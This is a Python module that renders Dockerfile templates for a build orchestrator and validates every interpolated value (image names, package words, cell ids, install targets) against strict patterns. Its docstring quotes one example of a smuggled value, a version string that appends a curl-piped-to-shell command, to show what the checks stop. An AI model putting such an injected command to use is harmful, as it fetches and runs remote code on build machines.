"""Render the Dockerfile templates in dockerfiles/ (Jinja2, StrictUndefined).

Every value is checked before it reaches a template: a Dockerfile is a shell
script in disguise, and a "version" such as ``1.0 && curl evil | sh`` must
never become a RUN line.
"""

from __future__ import annotations

import re
from functools import cache
from importlib import resources
from pathlib import Path

import jinja2

from orchestrator.plan import versions
from orchestrator.environment import INDEX_VARS
from orchestrator.errors import ConfigError
from orchestrator.plan.interpreters import Interpreter
from orchestrator.models import Cell

# Conservative shapes for everything that is interpolated into a Dockerfile.
_IMAGE = re.compile(r"^[a-z0-9][a-z0-9._/-]*(:[A-Za-z0-9._-]+)?(@sha256:[0-9a-f]{64})?$")
_WORD = re.compile(r"^[a-z0-9][a-z0-9.+-]*$")
_CELL_ID = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]*$")


def templates_dir() -> Path:
    """The templates: inside the installed package, or dockerfiles/ of a checkout."""
    packaged = resources.files("orchestrator").joinpath("dockerfiles")
    if packaged.is_dir():
        return Path(str(packaged))
    return Path(__file__).resolve().parents[2] / "dockerfiles"


@cache
def _env() -> jinja2.Environment:
    return jinja2.Environment(
        loader=jinja2.FileSystemLoader(templates_dir()),
        undefined=jinja2.StrictUndefined,
        autoescape=False,  # Dockerfiles, not HTML; values are validated instead
        keep_trailing_newline=True,
        trim_blocks=True,
        lstrip_blocks=True,
    )


def _check(pattern: re.Pattern[str], value: str | None, what: str) -> str:
    if value is None or not pattern.fullmatch(value):
        raise ConfigError(f"refusing to put {value!r} into a Dockerfile: not a valid {what}")
    return value


def render_base(interpreter: Interpreter, *, rootfs_image: str | None, ca_bundle: bool) -> str:
    """The interpreter base image's Dockerfile for ``interpreter``'s family."""
    versions.python_version(interpreter.version)
    if interpreter.family == "debian":
        _check(_IMAGE, rootfs_image, "image name")
        _check(_WORD, interpreter.suite, "Debian suite")
        _check(_WORD, interpreter.package, "Debian package name")
    else:
        _check(_IMAGE, interpreter.image, "image name")
    template = _env().get_template(f"base-{interpreter.family}.Dockerfile.j2")
    return template.render(
        interpreter=interpreter,
        rootfs_image=rootfs_image,
        ca_bundle=ca_bundle,
        index_vars=INDEX_VARS,
    )


def render_cell(cell: Cell, *, base_image: str, install: str, requirements: list[str]) -> str:
    """The cell image's Dockerfile: FROM the base, dependencies, then the project."""
    _check(_CELL_ID, cell.id, "cell id")
    _check(_IMAGE, base_image, "image name")
    _check(versions.INSTALL_TARGET, install, "install target (use '.' or '.[extra,...]')")
    return (
        _env()
        .get_template("cell.Dockerfile.j2")
        .render(
            cell=cell,
            base_image=base_image,
            install_target=install,
            requirements=requirements,
            index_vars=INDEX_VARS,
        )
    )


def cell_requirements(cell: Cell) -> list[str]:
    """The cell's pins as pip requirement lines, validated by ``packaging``."""
    try:
        return [versions.requirement(name, value) for name, value in cell.deps.items()]
    except versions.BadValue as exc:
        raise ConfigError(f"cell {cell.id}: {exc}") from None
